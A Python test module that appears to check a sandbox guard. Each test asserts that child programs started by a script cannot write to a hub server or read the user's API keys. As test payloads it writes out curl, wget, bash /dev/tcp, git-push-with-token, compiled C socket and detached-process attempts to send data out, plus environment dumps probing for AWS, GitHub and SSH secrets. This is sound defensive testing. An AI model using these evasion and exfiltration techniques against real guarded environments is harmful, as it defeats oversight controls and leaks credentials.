"""Attacks on `hub-gets-no-writes` and `keys-stay-with-python` by other programs that a script starts."""

from __future__ import annotations

import shutil
import sys
from collections.abc import Mapping
from pathlib import Path

from tests.attacks.attack import NotPossibleError, attack
from tests.attacks.hub import TOKEN
from tests.attacks.sending import TRAINING, assert_nothing_sent, probed, send_nothing

PROMISE = "hub-gets-no-writes"

PROGRAMS: Mapping[str, tuple[str, str]] = {
    "curl": (
        "curl",
        """
        for words in (["-X", "PUT", HUB + "/written"], ["--noproxy", "*", "-d", "x", HUB + "/written"],
                      ["-x", HUB, "-d", "x", "http://hub.invalid/written"], ["-T", __file__, HUB + "/written"]):
            print(unguarded("curl", "-sS", *words).stderr)
            print(unguarded("curl", "-sS", *words, env={"PATH": os.environ["PATH"]}).stderr)
        """,
    ),
    "wget": ("wget", 'unguarded("wget", "-t1", "--no-proxy", "-qO-", "--post-data=x", HUB + "/written", cwd="/")'),
    "shell": (
        "bash",
        """
        line = f'exec 3<>/dev/tcp/127.0.0.1/{PORT};'
        line += ' printf "PUT /written HTTP/1.1\\\\r\\\\nHost: a\\\\r\\\\n\\\\r\\\\n" >&3'
        for start in (lambda: os.system(f"bash -c '{line}'"), lambda: unguarded("bash", "-c", line),
                      lambda: os.popen(f"bash -c '{line}'").read(),
                      lambda: os.spawnlp(os.P_WAIT, "bash", "bash", "-c", line),
                      lambda: os.waitpid(os.posix_spawnp("bash", ["bash", "-c", line], dict(os.environ)), 0)):
            attempt(start)
        """,
    ),
    "git": (
        "git",
        """
        run = lambda *words: print(unguarded("git", "-c", "user.name=a", "-c", "user.email=a@b.invalid", *words).stderr)
        os.chdir(os.environ["TMPDIR"])
        run("init", "-q", "work"); os.chdir("work")
        run("commit", "-q", "--allow-empty", "-m", "m")
        named = HUB.replace("//", "//user:" + os.environ["HF_TOKEN"] + "@")
        for address in (named + "/user/repo", HUB + "/user/repo.git"):
            run("push", address, "HEAD:main")
            run("-c", "http.proxy=", "push", address, "HEAD:main")
        """,
    ),
    "python-without-the-guard": (
        "python3",
        """
        code = f"import urllib.request as u; u.urlopen(u.Request('{HUB}/written', b'x'))"
        for options in ("-I", "-S", "-E", "-IB", "-sE"):
            print(unguarded(sys.executable, options, "-c", code).stderr[-300:])
        print(unguarded(sys.executable, "-c", code, env={"PATH": os.environ["PATH"]}).stderr[-300:])
        """,
    ),
    "python-with-the-guard": (
        "python3",
        """
        code = f"import urllib.request as u; u.urlopen(u.Request('{HUB}/written', b'x'))"
        import multiprocessing
        if __name__ == "__main__":
            attempt(lambda: unguarded(sys.executable, "-c", code))
            attempt(lambda: os.system(f'{sys.executable} -c "{code}"'))
            for method in ("fork", "spawn", "forkserver"):
                made = multiprocessing.get_context(method).Process(target=exec, args=(code,))
                made.start(); made.join()
        """,
    ),
    "outliving": (
        "sh",
        """
        line = f"sleep 0.2; curl -X PUT {HUB}/written; wget -q --post-data=x {HUB}/written"
        subprocess.Popen(["setsid", "sh", "-c", line], start_new_session=True)
        import atexit, threading, time
        put = lambda: urllib.request.urlopen(urllib.request.Request(HUB + "/written", b"x"))
        atexit.register(put); atexit.register(lambda: os.system(line))
        threading.Thread(target=lambda: (time.sleep(0.3), put())).start()
        if os.fork() == 0:
            time.sleep(0.3)
            attempt(put)
            os._exit(0)
        """,
    ),
    "compiled": (
        "gcc",
        """
        source = '''
        #include <arpa/inet.h>
        #include <string.h>
        #include <sys/socket.h>
        #include <unistd.h>
        #include <sys/syscall.h>
        static int say(int s) {
            const char *l = "PUT /written HTTP/1.1\\\\r\\\\nHost: a\\\\r\\\\n\\\\r\\\\n";
            return write(s, l, strlen(l)); }
        int main(void) {
            struct sockaddr_in to = {AF_INET, htons(THE_PORT), {htonl(0x7f000001)}};
            struct sockaddr_in6 six = {AF_INET6, htons(THE_PORT), 0, {{{0,0,0,0,0,0,0,0,0,0,255,255,127,0,0,1}}}, 0};
            int s = socket(AF_INET, SOCK_STREAM, 0);
            if (!connect(s, (void *)&to, sizeof to)) say(s);
            if (!syscall(SYS_connect, s, &to, sizeof to, 1, 2, 3)) say(s);
            s = socket(AF_INET6, SOCK_STREAM, 0);
            if (!connect(s, (void *)&six, sizeof six)) say(s);
            s = socket(AF_INET, SOCK_STREAM, 0);
            sendto(s, "PUT /written HTTP/1.1\\\\r\\\\n\\\\r\\\\n", 25, MSG_FASTOPEN, (void *)&to, sizeof to);
            return 0;
        }'''
        os.chdir(os.environ["TMPDIR"])
        open("send.c", "w").write(source.replace("THE_PORT", str(PORT)))
        print(unguarded("gcc", "send.c", "-o", "send").stderr)
        attempt(lambda: os.system("./send"))
        attempt(lambda: unguarded("./send"))
        import ctypes
        attempt(lambda: ctypes.CDLL(None).system(b"./send"))
        if os.fork() == 0:
            ctypes.CDLL(None).execl(b"./send", b"send", None)
        """,
    ),
    "hub-command": ("hf", 'print(unguarded(sys.executable[:-6] + "hf", "upload", "user/repo", __file__, "a.py"))'),
}
NAMED: Mapping[str, str | list[str]] = {
    "curl": "a connection of `curl`",
    "wget": "a connection of `wget`",
    "shell": "a connection of `bash`",
    "git": "a connection of `git",
    "python-without-the-guard": "a connection of `python",
    "python-with-the-guard": ["POST 127.0.0.1", "5 times"],
    "compiled": "a connection of `send`",
}
SLOW = {"git", "outliving", "compiled", "hub-command", "python-with-the-guard", "wget", "python-without-the-guard"}


@attack(PROMISE, cases=sorted(set(PROGRAMS) - SLOW))
def program_that_sends(folder: Path, case: str) -> None:
    """Programs that no guard of Python watches."""
    _send(folder, case)


@attack(PROMISE, cases=sorted(SLOW), slow=True)
def further_program_that_sends(folder: Path, case: str) -> None:
    """Further ones, which take longer."""
    _send(folder, case)


def _send(folder: Path, case: str) -> None:
    program, code = PROGRAMS[case]
    if shutil.which(program) is None and not (Path(sys.prefix) / "bin" / program).exists():
        raise NotPossibleError(f"there is no {program}")
    send_nothing(folder, code, NAMED.get(case, "not sent"))


ASKED = """
import json
found = {}
def look(name, *words, **more):
    found[name] = unguarded(*words, **more).stdout
look("subprocess", "env")
look("given", "env", env={**os.environ, "MY_API_KEY": "hidden-value"})
look("shell", "sh", "-c", "env")
found["system"] = os.popen("env").read()
os.environ["LATER_SECRET"] = "hidden-value"
look("later", "env")
look("isolated", sys.executable, "-I", "-c", "import os; print(dict(os.environ))")
os.chdir(os.environ["TMPDIR"])
os.system("env > system.txt")
found["written"] = open("system.txt").read()
read, write = os.pipe()
number = os.posix_spawnp("env", ["env"], os.environ, file_actions=[(os.POSIX_SPAWN_DUP2, write, 1)])
os.waitpid(number, 0); os.close(write)
found["spawned"] = os.read(read, 1 << 20).decode()
import ctypes
ctypes.CDLL(None).system(b"env > native.txt")
found["native"] = open("native.txt").read()
for name, text in found.items():
    assert "PATH=" in text or "'PATH'" in text, name
    for hidden in (os.environ["HF_TOKEN"], "hidden-value", "SSH_AUTH_SOCK"):
        assert hidden not in text, (name, hidden)
assert "TOKENIZERS_PARALLELISM=false" in found["subprocess"]
own = unguarded(sys.executable, "-c", "import os; print(os.environ['HF_TOKEN'], os.environ['LATER_SECRET'])")
assert own.stdout.split() == [os.environ["HF_TOKEN"], "hidden-value"], own
print(unguarded("git", "config", "--get-all", "credential.helper").stdout)
"""


@attack("keys-stay-with-python")
def keys_in_the_environment(folder: Path) -> None:
    """Each way to start a program: none of them finds the user's keys, while the script's own Python does."""
    keys = {
        "WANDB_API_KEY": "hidden-value",
        "AWS_SECRET_ACCESS_KEY": "hidden-value",
        "AWS_PROFILE": "hidden-value",
        "GITHUB_TOKEN": "hidden-value",
        "GOOGLE_APPLICATION_CREDENTIALS": "hidden-value",
        "COMET_API_KEY": "hidden-value",
        "NEPTUNE_API_TOKEN": "hidden-value",
        "CLEARML_API_ACCESS_KEY": "hidden-value",
        "SLACK_WEBHOOK": "hidden-value",
        "PGPASSWORD": "hidden-value",
        "SSH_AUTH_SOCK": "hidden-value",
        "TOKENIZERS_PARALLELISM": "false",
    }
    sent = probed(folder, ASKED + TRAINING, variables=keys)
    assert_nothing_sent(sent)
    assert sent.document["probe"]["ending"]["kind"] == "measured", (sent.document["reason"], sent.document["probe"])


OWN_SERVER = """
import http.server, socket, threading
listening = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=lambda: listening.accept()[0].sendall(b"heard"), daemon=True).start()
port = listening.getsockname()[1]
said = unguarded("bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; head -c 5 <&3").stdout
assert said == "heard", said
class Answers(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.end_headers()

own = http.server.HTTPServer(("127.0.0.1", 0), Answers)
threading.Thread(target=own.serve_forever, daemon=True).start()
assert urllib.request.urlopen(f"http://127.0.0.1:{own.server_port}/", b"x", timeout=5).status == 200
import torch.distributed as distributed
distributed.init_process_group("gloo", init_method=f"tcp://127.0.0.1:{port + 1}", rank=0, world_size=1)
distributed.barrier()
distributed.destroy_process_group()
"""


@attack("own-servers-stay-in-reach", slow=True)
def own_server(folder: Path) -> None:
    """A program, and torch's compiled code, reach a server of the script itself on this machine."""
    sent = probed(folder, OWN_SERVER + TRAINING)
    assert_nothing_sent(sent)
    assert sent.document["probe"]["ending"]["kind"] == "measured", sent.document["reason"]
    assert TOKEN not in str(sent.notes)
